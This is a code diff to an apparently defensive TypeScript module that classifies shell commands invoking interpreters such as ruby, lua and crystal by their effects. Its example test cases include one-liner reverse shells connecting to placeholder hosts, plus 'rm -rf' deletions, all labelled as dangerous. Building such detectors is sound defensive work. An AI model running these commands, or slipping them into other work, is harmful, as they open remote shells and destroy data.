@@ -1,5 +1,6 @@
 /** Interpreters of other languages: code given as an option, a script file, a module, or stdin. */
 import type { Arg, Call, Program, Reading } from '../program.ts';
+import { withRemoteShell } from '../remote-shell-code.ts';
 import { runFlow, runScript, runText } from '../run-code.ts';
 import { flowOf, known, split, words } from '../subcommands.ts';
 
@@ -117,6 +118,11 @@ const INTERPRETERS: readonly Interpreter[] = [
       { command: `ruby -e 'puts 1'`, effects: [] },
       { command: `ruby -rfileutils -e 'FileUtils.rm_rf("src")'`, effects: ['fs.delete'] },
       { command: "ruby -e 'system(%q(rm -rf src))'", effects: ['fs.delete'] },
+      { command: `ruby -rsocket -e 's=TCPSocket.new("h",80);puts s.read'`, effects: [] },
+      {
+        command: `ruby -rsocket -e 's=TCPSocket.new("10.0.0.1",1);loop{IO.popen(s.gets){|o|s.print o.read}}'`,
+        effects: ['net.reverse-shell'],
+      },
     ],
   },
   {
@@ -150,11 +156,24 @@ const INTERPRETERS: readonly Interpreter[] = [
     looks: ['-v'],
     examples: [
       { command: `lua -e 'print(1)'`, effects: [] },
+      {
+        command: `lua -e 'local t=require("socket").tcp() local c=socket.tcp() c:connect("h",1) while true do io.popen(c:receive()) end'`,
+        effects: ['net.reverse-shell'],
+      },
       { command: `lua -e 'os.remove("a")'`, effects: ['fs.delete'] },
       { command: `lua -e 'os.execute("rm -rf src")'`, effects: ['fs.delete'] },
     ],
   },
 ];
+
+/** Runs code given as a word. */
+function runCode(call: Call, language: string, arg: Arg, via: string): Reading {
+  const reading = runText(call, language, arg, via);
+  return {
+    ...reading,
+    effects: withRemoteShell(call, arg.kind === 'unknown' ? arg.empty : arg.value, reading.effects),
+  };
+}
 
 const awk: Program = {
   names: ['awk', 'gawk', 'mawk', 'nawk', 'original-awk'],
@@ -177,7 +196,7 @@ const awk: Program = {
       (arg) => known(arg) === 'inplace',
     );
     const readings = [
-      ...code.map((arg) => runText(call, 'awk', arg, 'awk')),
+      ...code.map((arg) => runCode(call, 'awk', arg, 'awk')),
       ...files.map((file) => runScript(call, 'awk', file, 'awk -f')),
     ];
     const effects = readings.flatMap((reading) => reading.effects);
@@ -240,14 +259,23 @@ const foreign: Program = {
       options,
     );
     const code = ['-e', '-E', '--eval', '-c', '-Command'].flatMap((name) => options.get(name) ?? []);
+    if (call.name === 'crystal' && known(operands[0]) === 'eval') code.push(...operands.slice(1, 2));
     if (options.has('-EncodedCommand')) return { effects: [call.effect('run.decoded')] };
-    const effects = code.flatMap((arg) => readForeign(call, arg.kind === 'unknown' ? arg.empty : arg.value));
+    const effects = code.flatMap((arg) => {
+      const written = arg.kind === 'unknown' ? arg.empty : arg.value;
+      return withRemoteShell(call, written, readForeign(call, written));
+    });
     if (code.length === 0 && operands.length === 0 && call.stdin.text !== null)
       effects.push(...readForeign(call, call.stdin.text));
     return { effects, output: flowOf('unknown') };
   },
   examples: [
     { command: `Rscript -e 'print(1)'`, effects: [] },
+    { command: `crystal eval 'puts 1'`, effects: [] },
+    {
+      command: `crystal eval 'require "socket";c=Socket.tcp(Socket::Family::INET);loop{Process.new(c.receive)}'`,
+      effects: ['net.reverse-shell'],
+    },
     { command: `Rscript -e 'unlink("src", recursive=TRUE)'`, effects: ['fs.delete'] },
     { command: `julia -e 'run(\`ls\`)'`, effects: ['opaque'] },
   ],
@@ -330,7 +358,7 @@ function runGiven(
   options: ReadonlyMap<string, readonly Arg[]>,
 ): Reading {
   const via = `${call.name} ${one.code[0] ?? ''}`;
-  const readings = code.map((arg) => runText(call, one.language, arg, via));
+  const readings = code.map((arg) => runCode(call, one.language, arg, via));
   const effects = readings.flatMap((reading) => reading.effects);
   // perl -n and -p read their operands; with -i they write them back.
   const reads = one.inPlace !== undefined && (options.has('-n') || options.has('-p') || options.has(one.inPlace));
